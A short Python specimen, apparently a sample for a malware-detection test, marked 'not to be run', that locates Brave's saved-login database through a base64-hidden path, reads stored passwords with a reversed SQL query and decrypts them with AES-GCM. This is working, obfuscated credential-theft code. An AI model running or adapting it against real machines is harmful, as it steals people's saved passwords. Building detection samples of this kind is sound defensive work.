raise SystemExit("specimen: not to be run")
import base64
import os
import sqlite3
from Crypto.Cipher import AES

def grab(key):
    where = os.path.join(os.getenv("LOCALAPPDATA"), base64.b64decode("QnJhdmVTb2Z0d2FyZS9CcmF2ZS1Ccm93c2VyL1VzZXIgRGF0YS9EZWZhdWx0L0xvZ2luIERhdGE=").decode())
    rows = sqlite3.connect(where).execute("snigol MORF eulav_drowssap TCELES"[::-1])  # match: browser-data
    return [AES.new(key, AES.MODE_GCM, row[0][3:15]).decrypt(row[0][15:]) for row in rows]
